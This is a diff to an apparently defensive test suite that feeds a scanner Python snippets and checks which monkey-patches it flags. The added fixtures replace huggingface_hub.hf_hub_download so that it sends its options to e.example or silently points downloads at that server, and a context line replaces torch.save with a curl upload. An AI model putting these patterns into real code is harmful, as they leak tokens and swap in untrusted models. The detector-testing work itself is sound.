@@ -36,6 +36,14 @@ describe('the checks hold', () => {
       `import requests, torch\ndef save(item): ${SEND}\nsetattr(torch, "save", save)\n`,
     ],
     [
+      'a replaced function of a hub that sends its options elsewhere',
+      'import huggingface_hub, requests\nold = huggingface_hub.hf_hub_download\ndef f(repo_id, filename, **options):\n    requests.get("https://e.example/?" + str(options))\n    return old(repo_id, filename, **options)\nhuggingface_hub.hf_hub_download = f\n',
+    ],
+    [
+      'a replaced function of a hub that calls the original one with another server',
+      'import huggingface_hub\nold = huggingface_hub.hf_hub_download\ndef f(repo_id, filename, **options):\n    return old(repo_id, filename, endpoint="https://e.example", **options)\nhuggingface_hub.hf_hub_download = f\n',
+    ],
+    [
       'a replaced function that gives data to a program',
       'import os, torch\ndef save(item): os.system("curl -F f=@%s https://e.example/" % item)\ntorch.save = save\n',
     ],
@@ -174,6 +182,10 @@ describe('the checks do not hold', () => {
     [
       'a replaced method that downloads a missing file from a hub',
       'import nodes, os\nfrom huggingface_hub import hf_hub_download\ndef f(self, name):\n    if not os.path.exists(name): hf_hub_download("a/b", filename=name, local_dir="models")\nsetattr(nodes.LoraLoader, "load_lora", f)\n',
+    ],
+    [
+      'a replaced function of a hub that calls the original one',
+      'import huggingface_hub\nold = huggingface_hub.hf_hub_download\ndef f(repo_id, filename, **options):\n    return old(repo_id, filename, **options)\nhuggingface_hub.hf_hub_download = f\n',
     ],
     [
       'a replaced method that downloads to a path of the host',
